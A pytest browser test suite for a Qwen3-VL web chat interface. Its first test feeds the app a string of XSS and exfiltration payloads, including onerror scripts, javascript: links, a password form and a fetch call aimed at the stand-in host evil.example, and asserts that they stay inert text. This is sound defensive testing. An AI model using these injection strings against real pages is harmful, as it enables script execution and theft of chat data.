"""Languages, themes, phone, history, hostile text."""

import json
from dataclasses import replace

import pytest

from qwen3vl_webui.conversation import Conversation

pytestmark = pytest.mark.browser

HOSTILE = """Look <img src=http://evil.example/a.png onerror="window.ran=1"> <script>window.ran=2</script>
![leak](http://evil.example/b.png?chat=1) [click](javascript:window.ran=3) [data](data:text/html,x)
<style>body{display:none}</style> <form action=http://evil.example><input type=password></form>
<svg><image href=http://evil.example/c.png /></svg> <a href="#qv?m=nobody&t=3">forged</a>
[forged](#qv?m=nobody&t=3) [more](#qv?m=nobody&t=1e999) <iframe src=http://evil.example></iframe>
<video src=http://evil.example/v.mp4 autoplay></video> <div style="position:fixed;inset:0;background:url(http://evil.example/d)">

```html
<script>parent.ran = 4; fetch('http://evil.example/')</script><img src=http://evil.example/e.png>
```

$\\href{javascript:window.ran=5}{x}$ $\\includegraphics{http://evil.example/f.png}$
"""


def test_hostile_answers_stay_text(visit, house):
    house.engine.script = HOSTILE
    here = visit()
    here.ask('<img src=x onerror="window.ran=6"> ${window.ran=7} {{constructor}}', "colours.mp4")
    here.settled()
    here.page.click(".qv-code .qv-small:has-text('Preview')")
    here.page.click(".qv-code .qv-check input")
    here.page.wait_for_timeout(400)
    assert here.page.evaluate("window.ran") is None
    thread = here.page.locator(".qv-rows")
    assert thread.locator("form, style, script, video, object, embed, .qv-text img").count() == 0
    assert here.page.locator(".qv-answer a.qv-cite").count() == 0
    assert here.page.locator(".qv-answer a[href^='javascript'], .qv-answer a[href^='data']").count() == 0
    assert "<script>window.ran=2</script>" in here.answer()
    assert here.page.inner_text(".qv-bubble").startswith("<img src=x")
    # The preview may try, and is stopped by its walls: nothing left the page (checked by `visit`).
    walls = ("Content Security Policy", "BLOCKED_BY_CSP", "about:srcdoc", "cross-origin frame")
    here.complaints[:] = [each for each in here.complaints if not any(wall in each for wall in walls)]


def test_the_language_switches_at_once_and_is_remembered(visit, house):
    here = visit(locale="zh-Hans-CN")
    assert here.page.locator(".qv-new").inner_text().startswith("新对话")
    here.page.fill("#qv-question", "还没发送")
    here.page.click("#qv-language")
    assert here.page.locator(".qv-new").inner_text().startswith("New chat")
    assert here.page.input_value("#qv-question") == "还没发送"
    assert here.page.get_attribute("html", "lang") == "en"
    here.reload()
    here.page.wait_for_selector(".qv-new:has-text('New chat')")


def test_dark_follows_the_system_and_can_be_chosen(visit, house):
    def ground(page):
        return page.evaluate("getComputedStyle(document.querySelector('#qv')).backgroundColor")

    here = visit(color_scheme="dark")
    assert ground(here.page) == "rgb(23, 24, 27)"
    here.page.click("#qv-theme")  # auto -> light
    assert ground(here.page) == "rgb(255, 255, 255)"
    here.reload()
    here.page.wait_for_selector("#qv-theme")
    assert ground(here.page) == "rgb(255, 255, 255)"


def test_on_a_phone_a_tap_brings_the_evidence_up(visit, house):
    house.engine.script = (
        "It turns at 0:09, as | a | wide | table | shows.\n\n" + "| a " * 20 + "|\n" + "|---" * 20 + "|\n"
    )
    here = visit(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    here.ask("When?", "colours.mp4")
    here.settled()
    assert here.page.evaluate("document.documentElement.scrollWidth") == 390
    assert here.page.evaluate("document.querySelector('.qv-scroller').scrollWidth") <= 390
    here.page.locator("a.qv-cite:has-text('0:09')").tap()
    here.sees_second(9)
    here.page.wait_for_function("document.querySelector('#qv-video').getBoundingClientRect().bottom < innerHeight")
    here.page.tap(".qv-close-evidence")
    here.page.wait_for_function("document.querySelector('#qv-evidence').getBoundingClientRect().top >= innerHeight")
    here.page.tap("#qv-open-side")
    here.page.wait_for_selector(".qv-entry-title:visible")


def test_on_a_phone_the_tools_leave_the_marks_alone_and_the_empty_page_shows_its_top(visit, house):
    house.engine.script = '```json\n[{"bbox_2d": [600, 10, 990, 200], "label": "cat"}]\n```\n'
    here = visit(viewport={"width": 390, "height": 600}, is_mobile=True, has_touch=True)
    assert here.page.evaluate("document.querySelector('.qv-scroller').scrollTop") == 0
    assert (
        here.page.locator(".qv-welcome h1").bounding_box()["y"]
        > here.page.locator(".qv-bar-row").bounding_box()["height"]
    )
    here.ask("Where is the cat?", "scene.png")
    here.settled()
    here.page.tap("a.qv-cite")
    here.page.wait_for_selector("#qv-evidence").wait_for_element_state("stable")
    here.page.wait_for_selector("rect.qv-box-shape")
    tools, box = (here.page.locator(name).bounding_box() for name in (".qv-zoom", "rect.qv-box-shape"))
    assert tools["y"] >= box["y"] + box["height"]
    width = here.page.locator(".qv-sheet").bounding_box()["width"]
    here.page.tap(".qv-zoom [title='Larger']")
    here.page.wait_for_function("width => document.querySelector('.qv-sheet').clientWidth > 1.3 * width", arg=width)


def test_history_search_rename_export_delete(visit, house):
    here = visit()
    here.ask("About giraffes")
    here.settled()
    here.page.keyboard.press("Control+Shift+O")
    here.page.wait_for_selector(".qv-welcome")
    here.ask("About whales")
    here.settled()
    here.page.wait_for_function("document.querySelectorAll('.qv-entry').length === 2")  # else one is there already
    here.page.keyboard.press("Control+k")
    here.page.keyboard.type("giraffe")
    here.page.wait_for_function("document.querySelectorAll('.qv-entry').length === 1")
    here.page.click(".qv-entry-title")
    here.page.wait_for_selector(".qv-bubble:has-text('About giraffes')")
    here.page.fill("#qv-search", "")
    here.page.wait_for_function("document.querySelectorAll('.qv-entry').length === 2")

    entry = here.page.locator(".qv-entry:has-text('About giraffes')")
    entry.hover()
    entry.locator("[title='More']").click()
    here.page.click(".qv-menu >> text=Rename")
    here.page.fill(".qv-entry .qv-input", "Tall animals")
    here.page.press(".qv-entry .qv-input", "Enter")
    here.page.wait_for_selector(".qv-entry:has-text('Tall animals')")

    entry = here.page.locator(".qv-entry:has-text('Tall animals')")
    entry.hover()
    entry.locator("[title='More']").click()
    with here.page.expect_download() as download:
        here.page.click(".qv-menu >> text=Export as Markdown")
    assert download.value.suggested_filename == "Tall-animals.md"
    assert "About giraffes" in download.value.path().read_text()
    entry.hover()
    entry.locator("[title='More']").click()
    with here.page.expect_download() as download:
        here.page.click(".qv-menu >> text=Export as JSON")
    assert download.value.suggested_filename == "Tall-animals.json"
    exported = json.loads(download.value.path().read_text())
    assert [turn["text"] for turn in exported["turns"]] == ["About giraffes", "Hello from the script."]

    entry.hover()
    entry.locator("[title='More']").click()
    here.page.click(".qv-menu >> text=Delete")
    here.page.click(".qv-entry .qv-danger")
    here.page.wait_for_selector(".qv-welcome")
    here.page.wait_for_function("document.querySelectorAll('.qv-entry').length === 1")


def test_the_menu_of_a_conversation_works_by_keyboard(visit, house):
    here = visit()
    here.ask("About giraffes")
    here.settled()
    keys = here.page.keyboard

    def focused():
        return here.page.evaluate(
            "document.activeElement.getAttribute('aria-label') || document.activeElement.textContent"
        )

    here.page.focus(".qv-entry-title")
    keys.press("Tab")
    assert focused() == "More"
    keys.press("Enter")
    assert focused() == "Rename"
    keys.press("ArrowUp")
    assert focused() == "Delete"
    keys.press("Escape")
    assert focused() == "More"
    assert here.page.locator(".qv-menu").count() == 0
    keys.press("Enter")
    keys.press("ArrowDown")
    assert focused() == "Export as Markdown"
    with here.page.expect_download() as download:
        keys.press("Enter")
    assert download.value.suggested_filename == "About-giraffes.md"
    assert focused() == "More"
    keys.press("Enter")
    keys.press("Enter")
    keys.type("Tall animals")
    keys.press("Enter")
    here.page.wait_for_selector(".qv-entry-title:text-is('Tall animals')")
    assert focused() == "Tall animals"
    keys.press("Tab")
    keys.press("Enter")
    keys.press("End")
    keys.press("Enter")
    assert focused() == "Delete"  # asks first
    keys.press("Tab")
    keys.press("Enter")
    here.page.wait_for_selector(".qv-entry-title:text-is('Tall animals')")


def test_nothing_moves_for_who_wants_no_motion(visit, house):
    house.engine.script = "It turns at 0:09."
    here = visit(reduced_motion="reduce", viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    here.ask("When?", "colours.mp4")
    here.settled()
    here.page.tap("a.qv-cite")
    sheet = here.page.locator("#qv-evidence").bounding_box()
    assert sheet["y"] + sheet["height"] == pytest.approx(844, abs=1)  # it is up at once
    moving = "document.getAnimations().map((each) => each.animationName || each.transitionProperty)"
    assert here.page.evaluate(moving) == []
    here.sees_second(9)


def test_formulas_tables_lists_and_code(visit, house):
    house.engine.script = (
        "**粗体**在*这里*。\n\n| a | b |\n|---|--:|\n| 1 | `x` |\n\n1. one\n   - two\n2. three\n\n"
        "$$\\frac{1}{2}$$\n\nand $x^2$\n\n```python\nprint(1)\n```\n\n> quoted\n\n~~gone~~ https://example.com/a."
    )
    here = visit()
    here.ask("Show all.")
    here.settled()
    text = here.page.locator(".qv-answer .qv-text")
    for wanted in ("strong", "em", "table td code", "ol > li > ul > li", "pre code", "blockquote p", "del"):
        assert text.locator(wanted).count() == 1, wanted
    here.page.wait_for_selector(".qv-text math mfrac", state="attached")
    assert text.locator("math").count() == 2
    assert text.locator("a.qv-out").get_attribute("href") == "https://example.com/a"
    assert text.locator("a.qv-out").get_attribute("rel") == "noopener noreferrer nofollow"


def test_a_long_conversation_shows_its_end_and_the_rest_on_demand(visit, house):
    conversation = Conversation(title="Long")
    for number in range(30):
        conversation = conversation.ask(f"Question {number}?").answer()
        conversation = conversation.update(conversation.leaf, text=f"Answer {number}.", state="done")
    house.services.store.save("local", conversation)
    here = visit()
    here.page.click(".qv-entry-title")
    here.page.wait_for_selector("text=Answer 29.")
    assert here.page.locator(".qv-row").count() == 40
    here.page.wait_for_function(
        "() => { const s = document.querySelector('.qv-scroller');"
        " return s.scrollHeight - s.scrollTop - s.clientHeight < 4; }"
    )
    here.page.locator(".qv-earlier").evaluate("button => button.click()")
    here.page.wait_for_function("document.querySelectorAll('.qv-row').length === 60")
    assert here.page.locator(".qv-earlier").is_hidden()


def test_a_copied_answer_has_no_link_syntax(visit, house):
    house.engine.script = "It turns at 0:12, **surely**."
    here = visit(permissions=["clipboard-read", "clipboard-write"])
    here.ask("When?", "colours.mp4")
    here.settled()
    here.page.click(".qv-answer [title='Copy']")
    here.page.wait_for_function("navigator.clipboard.readText().then((text) => text.includes('0:12'))")
    assert here.page.evaluate("navigator.clipboard.readText()") == "It turns at 0:12, **surely**."


def test_the_demo_model_says_what_it_is_good_at(visit, house):
    usual = house.engine.model
    house.engine.model = replace(usual, demo=True, skills=(("name", 0.97), ("when", 0.4)))
    try:
        here = visit(locale="zh-CN")
        banner = here.page.wait_for_selector(".qv-banner:has-text('演示模型')").inner_text()
        assert "测得可靠的：说出图形。" in banner
        assert "较弱、常出错的：视频中的时间。" in banner
    finally:
        house.engine.model = usual
